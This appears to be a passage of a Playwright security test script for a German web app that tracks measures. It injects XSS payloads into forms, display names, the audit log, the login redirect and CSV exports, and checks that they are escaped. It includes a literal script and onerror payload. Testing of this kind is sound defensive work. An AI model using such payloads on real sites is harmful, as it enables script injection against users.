          if (!(await p.locator('.error-summary a[href="#f-code"]').count())) problems.push(`${where}: no error for the code`);
        },
      },
      problems,
    ),
  );
  const light = measures[2]; // no history: a small page around the status and milestone forms
  await xssCase(`status form 422 (no decision date): all ${N} payloads in text, next steps, blockers, reason, options`, async (problems) =>
    rotate422(
      `POST ${light.href}/sachstand`,
      {
        target: `${light.href}/sachstand`,
        page: light.href,
        formSel: `form[action="${light.href}/sachstand"]`,
        fields: ['text', 'next_steps', 'blockers', 'reason', 'options'],
        fixed: { status: 'umsetzung', ampel: 'gelb', progress: '10', decision_by: '' },
      },
      problems,
    ),
  );
  await xssCase(`milestone form 422 (no due date): all ${N} payloads in the title`, async (problems) =>
    rotate422(
      `POST ${light.href}/meilensteine`,
      {
        target: `${light.href}/meilensteine`,
        page: light.href,
        formSel: `form[action="${light.href}/meilensteine"]`,
        fields: ['ms_title'],
        fixed: { ms_due: '' },
      },
      problems,
    ),
  );

  await xssCase('409 conflict page (ag): both versions of the description shown escaped, own input kept', async (problems) => {
    const m = measures[1];
    const mine = S[6].s.trim();
    const theirs = S[8].s.trim();
    await page.goto(`${base}${m.href}/bearbeiten`, { waitUntil: 'load' });
    const form = await page.evaluate(() => Object.fromEntries(new FormData(document.querySelector('main form.form'))));
    delete form.csrf_token;
    await post(`${m.href}/bearbeiten`, { ...form, description: theirs }); // someone else saves first
    await page.evaluate((v) => {
      document.querySelector('#f-description').value = v;
    }, mine);
    const [resp] = await Promise.all([
      page.waitForNavigation({ waitUntil: 'load' }),
      page.evaluate(() => document.querySelector('main form.form').requestSubmit()),
    ]);
    await inspect(page, resp, `POST ${m.href}/bearbeiten (stale version)`, { status: [409], texts: [mine, theirs], values: [{ sel: '#f-description', v: mine }] }, problems);
    m.description = theirs;
  });

  await xssCase('CSV export (ag, and filtered by a payload): formula cells get a leading \', payload cells intact', async (problems) => {
    const check = async (target, what) => {
      const r = await ctx.request.get(base + target);
      const ct = r.headers()['content-type'] || '';
      if (r.status() !== 200) problems.push(`${what}: HTTP ${r.status()}`);
      if (!ct.startsWith('text/csv')) problems.push(`${what}: Content-Type ${short(ct)} (a payload in a text/html download would run)`);
      if (r.headers()['x-content-type-options'] !== 'nosniff') problems.push(`${what}: no X-Content-Type-Options: nosniff`);
      const rows = parseCsv(await r.text());
      const width = rows[0]?.length;
      rows.forEach((row, i) => {
        if (row.length !== width) problems.push(`${what}: row ${i} has ${row.length} cells, header ${width}`);
        row.forEach((c, j) => {
          if (formulaCell(c)) problems.push(`${what}: row ${i} cell ${j} starts with a formula character: ${short(c)}`);
        });
      });
      const byCode = new Map(rows.slice(1).map((row) => [row[0], row]));
      let seen = 0;
      for (const m of measures) {
        const row = byCode.get(neutralised(m.code));
        if (!row) continue;
        seen++;
        if (row[1] !== neutralised(m.title)) problems.push(`${what}: ${m.code} title cell ${short(row[1])} ≠ ${short(neutralised(m.title))}`);
      }
      return { rows: rows.length - 1, seen };
    };
    const all = await check('/massnahmen.csv', '/massnahmen.csv');
    if (all.seen !== measures.length) problems.push(`/massnahmen.csv: ${all.seen} of ${measures.length} XSS measures found (code "-XSS-…" must be "'-XSS-…")`);
    const formulas = measures.filter((m) => FORMULA_START.test(m.title));
    for (const m of formulas) {
      const f = await check(`/massnahmen.csv?q=${encodeURIComponent(m.title)}`, `/massnahmen.csv?q=${m.title.slice(0, 20)}`);
      if (f.seen < 1) problems.push(`CSV filtered by ${short(m.title, 30)} lacks its measure`);
    }
    return `${all.rows} rows, ${formulas.length} formula titles and 1 formula code neutralised`;
  });

  // ---- rat ----------------------------------------------------------------------------------
  setupOk = await test('XSS: login as rat', async () => {
    csrf = await login('rat');
  });
  if (setupOk) {
    const sample = measures.filter((m, i) => i > 0 && i % 6 === 0);
    // issue 16: the council's measure page is the public view (title, public description;
    // no internal description, sign-off notes or history)
    const publicExpect = (m) => ({ texts: [m.title, m.publicText], titleText: m.title });
    await xssCase(`rat: overview, measure list, public view, ${sample.length} more measure details, CSV`, async (problems) => {
      await render(page, '/massnahmen', { texts: measures.map((m) => m.title) }, problems);
      await render(page, '/', { texts: [host.title] }, problems);
      await render(page, host.href, publicExpect(host), problems);
      await parallel(sample, (p, m) => render(p, m.href, publicExpect(m), problems));
      const r = await ctx.request.get(`${base}/massnahmen.csv`);
      const rows = parseCsv(await r.text());
      for (const row of rows) {
        for (const c of row) if (formulaCell(c)) problems.push(`rat CSV: cell starts with a formula character: ${short(c)}`);
      }
    });
  }

  // ---- admin: display names, the users page, the audit log ----------------------------------
  const users = [];
  const author = {
    username: 'xss-autor',
    display_name: `"><img src=x onerror=${x('autor')}></span><script>${x('autor')}</script>`,
    password: 'Xss-Autor-Passwort-2026!',
  };
  setupOk = await test('XSS: login as admin', async () => {
    csrf = await login('admin');
  });
  if (setupOk) {
    await xssCase(`new-user form 422 (username invalid): all ${N} payloads in username and display name`, async (problems) =>
      rotate422(
        'POST /verwaltung/benutzer',
        {
          target: '/verwaltung/benutzer',
          page: '/verwaltung/benutzer',
          formSel: 'form[action="/verwaltung/benutzer"]',
          fields: ['username', 'display_name'],
          fixed: { role: 'rat', password: '' },
          expectValues: ['username', 'display_name'],
        },
        problems,
      ),
    );
    setupOk = await test(`XSS setup (admin): ${M} accounts with payload display names`, async () => {
      const c0 = Date.now();
      for (let k = 0; k < M; k++) {
        // an account's name is its person's name, which refuses invisible controls (as the
        // organisation's person form does); the payloads themselves stay
        const u = { username: `xss-${k}`, display_name: fit(S[k].s.replace(INVISIBLE, ''), 120), role: 'rat', password: '' };
        await post('/verwaltung/benutzer', u, { want: [200, 303] });
        users.push(u);
      }
      await post('/verwaltung/benutzer', { ...author, role: 'ag' }, { want: [200, 303] });
      return `${((Date.now() - c0) / 1000).toFixed(1)} s`;
    });
    if (setupOk) {
      await xssCase('admin users page: payload display names in the table', async (problems) => {
        await render(page, '/verwaltung/benutzer', { texts: [...users.map((u) => u.display_name), author.display_name] }, problems);
      });
    }
  }

  // the author with a payload display name: header on every page, history, audit "Wer"
  setupOk = await test('XSS: login as the account with a payload display name', async () => {
    csrf = await login(author.username, author.password);
  });
  if (setupOk) {
    await xssCase('payload display name in the page header and as history author', async (problems) => {
      const text = `Meldung von ${author.username}`;
      await post(`${light.href}/sachstand`, { status: 'umsetzung', ampel: 'gruen', progress: '60', text, next_steps: '', blockers: '', reason: '', options: '', decision_by: '' });
      await render(page, light.href, { texts: [author.display_name, text] }, problems);
    });
  }

  setupOk = await test('XSS: login as admin for the audit log', async () => {
    csrf = await login('admin');
  });
  if (setupOk) {
    await xssCase('audit log (admin): old/new values with payloads, every page back to the first XSS entry', async (problems) => {
      // the payloads as the log shows them: plain text, no JSON (issue 11)
      const want = [
        ...measures.map((m) => m.title),
        ...updates.map((u) => u.text),
        ...milestones,
        ...users.map((u) => u.display_name),
        author.display_name,
      ];
      let target = '/verwaltung/protokoll';
      let text = '';
      let pages = 0;
      while (target && pages < 12) {
        await render(page, target, {}, problems);
        pages++;
        text += ` ${norm(await page.locator('main').evaluate((el) => el.textContent))}`;
        if (text.includes(`Nummer: ${measures[0].code} `)) break; // reached the first XSS measure
        const older = page.locator('a[href^="/verwaltung/protokoll?vor="]');
        target = (await older.count()) ? await older.first().getAttribute('href') : null;
      }
      const missing = want.filter((w) => !text.includes(norm(w)));
      for (const w of missing.slice(0, 10)) problems.push(`audit log lacks ${short(w)}`);
      if (missing.length > 10) problems.push(`… ${missing.length} values missing in all`);
      return `${pages} audit page(s)`;
    });
  }

  // ---- anonymous: the login page's ?next= --------------------------------------------------
  await ctx.clearCookies();
  await xssCase(`login page (anonymous): all ${N} payloads in ?next= escaped or dropped`, async (problems) => {
    await parallel(G, (p, g) => render(p, `/anmelden?next=${encodeURIComponent(`/${joined(g)}`)}`, { status: [200, 400] }, problems));
  });

  /** Render and inspect, the fields of later features (xss_more.mjs) and the summary. */
  return {
    ctx,
    page,
    base,
    S,
    M,
    G,
    C,
    N,
    PAYLOADS,
    parallel,
    xssCase,
    inspect,
    render,
    showResponse,
    rotate422,
    post,
    postRaw,
    async loginAs(user, password) {
      csrf = await login(user, password);
    },
    finish,
  };

  async function finish() {
    for (const p of workers.slice(1)) await p.close().catch(() => {});
    await ctx.unroute(shownHere).catch(() => {});

    await test('XSS summary: 0 sentinel executions, 0 CSP violations, 0 injected elements', async () => {
      const lines = [
        ...executions.map((e) => `EXECUTED ${e.id} on ${e.url}`),
        ...violations.map((v) => `CSP violation on ${v.url}: ${v.directive} ${short(v.sample || v.blocked, 60)}`),
        ...dialogs.map((d) => `dialog ${d}`),
        ...injections,
      ];
      assert(lines.length === 0, `${executions.length} execution(s), ${violations.length} CSP violation(s), ${injections.length} injection(s)`, lines.slice(0, 30));
      return `${N} payloads, ${rendered} pages rendered, ${((Date.now() - t0) / 1000).toFixed(1)} s`;
    });
  }
}
